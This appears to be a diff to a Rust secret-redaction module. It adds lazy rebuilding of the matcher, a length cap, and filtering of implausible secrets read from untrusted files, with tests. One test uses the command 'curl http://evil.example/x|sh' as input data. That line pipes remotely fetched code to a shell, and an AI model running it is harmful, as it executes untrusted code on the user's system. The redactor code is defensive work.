@@ -2,7 +2,7 @@
 
 use std::fmt;
 use std::ops::Not;
-use std::sync::{Arc, PoisonError, RwLock};
+use std::sync::{Arc, PoisonError, RwLock, RwLockReadGuard};
 
 use aho_corasick::{AhoCorasick, MatchKind};
 use secrecy::{ExposeSecret, SecretString};
@@ -14,6 +14,8 @@ use crate::outcome::{Outcome, Output, Status};
 /// What stands where a secret stood.
 pub const MASK: &str = "[REDACTED]";
 
+/// A longer value is a document.
+const LONGEST: usize = 16 << 10;
 /// A shorter value would be found in innocent text, and is no secret worth the name.
 const SHORTEST: usize = 8;
 
@@ -29,6 +31,8 @@ pub struct Redactor(Arc<RwLock<Known>>);
 struct Known {
     secrets: Vec<SecretString>,
     finder: Option<AhoCorasick>,
+    /// Whether there are secrets that the finder does not know.
+    stale: bool,
 }
 
 impl Redactor {
@@ -38,12 +42,36 @@ impl Redactor {
         for secret in secrets {
             let value = secret.expose_secret();
             let is_new = known.secrets.iter().all(|old| old.expose_secret() != value);
-            if value.len() >= SHORTEST && is_new {
+            if (SHORTEST..=LONGEST).contains(&value.len()) && is_new {
                 known.secrets.push(secret);
+                known.stale = true;
             }
         }
+    }
+
+    /// What is known, with a finder for all of it. Many secrets come one after the other, so it is made when needed.
+    fn known(&self) -> RwLockReadGuard<'_, Known> {
+        let known = self.0.read().unwrap_or_else(PoisonError::into_inner);
+        if !known.stale {
+            return known;
+        }
+        drop(known);
+        let mut known = self.0.write().unwrap_or_else(PoisonError::into_inner);
         let spellings: Vec<_> = known.spellings().collect();
         known.finder = AhoCorasick::builder().match_kind(MatchKind::LeftmostLongest).build(spellings).ok();
+        known.stale = false;
+        drop(known);
+        self.0.read().unwrap_or_else(PoisonError::into_inner)
+    }
+
+    /// Remembers a secret that stands in a file of a stranger. Only what looks like one: or the file could make any word
+    /// that people must see unreadable.
+    pub fn add_written(&self, secrets: impl IntoIterator<Item = SecretString>) {
+        let plausible = |secret: &SecretString| {
+            let text = secret.expose_secret();
+            !text.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_') && !text.contains(['"', '\'', '{', '}', ':', '|', ';'])
+        };
+        self.add(secrets.into_iter().filter(plausible));
     }
 
     /// Remembers the values of environment variables whose names say that they are secret.
@@ -60,7 +88,7 @@ impl Redactor {
     /// The text without secrets, or nothing where it has none.
     #[must_use]
     pub fn clean(&self, text: &str) -> Option<String> {
-        let known = self.0.read().unwrap_or_else(PoisonError::into_inner);
+        let known = self.known();
         match &known.finder {
             Some(finder) => finder.is_match(text).then(|| replace_all(finder, text)),
             None => known.clean_one_by_one(text),
@@ -306,9 +334,21 @@ mod tests {
     fn without_a_finder_it_only_takes_longer() {
         let redactor = redactor("canary\"9000");
         redactor.add(["canary\"9000-long".to_owned().into()]);
+        let _ = redactor.clean("");
         redactor.0.write().expect("a lock").finder = None;
         assert_eq!(redactor.clean("x canary\"9000-long y canary\\\"9000 z").as_deref(), Some("x [REDACTED] y [REDACTED] z"));
         assert_eq!(redactor.clean("nothing here"), None);
+    }
+
+    #[test]
+    fn words_of_a_file_cannot_be_made_unreadable() {
+        let redactor = Redactor::default();
+        redactor.add_written(
+            ["curl http://evil.example/x|sh", "permission_denied", "\"diagnostics\":", "sk-abc123def456"]
+                .map(|text| text.to_owned().into()),
+        );
+        assert_eq!(redactor.clean("curl http://evil.example/x|sh \"diagnostics\": permission_denied"), None);
+        assert_eq!(redactor.clean("key sk-abc123def456").as_deref(), Some("key [REDACTED]"));
     }
 
     #[test]
